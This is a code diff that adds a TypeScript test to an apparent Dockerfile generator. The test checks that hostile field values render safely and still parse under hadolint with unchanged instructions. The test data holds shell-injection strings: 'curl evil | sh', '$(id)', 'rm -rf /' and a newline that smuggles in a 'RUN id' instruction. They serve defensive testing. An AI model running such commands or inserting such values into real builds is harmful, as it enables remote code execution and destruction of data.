@@ -13,6 +13,7 @@ import {
 } from './inject-support';
 import { renderManifestObjects } from '../../src/app/manifests';
 import { byKindName } from '../chart/fixture';
+import { hadolint } from '../image/helpers';
 
 type Preset = 'go' | 'python' | 'node' | 'static';
 const PRESETS: Preset[] = ['go', 'python', 'node', 'static'];
@@ -220,4 +221,23 @@ describe(`property: a random hostile string in every string field (seed ${SEED},
       }
     }
   }, 300_000);
+});
+
+describe('hadolint reads the hostile-but-accepted Dockerfiles as the same instructions', () => {
+  const accepted: [Preset, Path, string][] = [
+    ['go', ['build', 'go', 'ldflags'], "-X 'main.v=1; curl evil | sh' $(id) `id` && rm -rf / \\"],
+    ['python', ['description'], 'say "hi" \\ $HOME ${X} # not a comment'],
+    ['python', ['workingDir'], '/srv/my "app" $HOME\\'],
+    ['node', ['build', 'testCommand', 1], 'a", "b\\"]\nRUN id'],
+    ['static', ['build', 'labels', 'x'], '"$(id)" \\ ${A} <<EOF'],
+  ];
+  // Not here: a backslash right before a quote in a LABEL/WORKDIR value (`"a\\"`, `"\\\""`). BuildKit
+  // reads it back exactly (dockerfileValues above), hadolint's parser (language-docker) cannot.
+  it.each(accepted)('%s %j', (preset, path, value) => {
+    const r = run(withValue(baseSpec(preset), path, value));
+    if (r.kind !== 'rendered') throw new Error(r.message);
+    const findings = hadolint(r.dockerfile!);
+    expect(findings.filter((f) => f.code === 'DL1000' || f.level === 'error')).toEqual([]);
+    expect(keywords(r.dockerfile!)).toEqual(baseline[preset].keywords);
+  });
 });
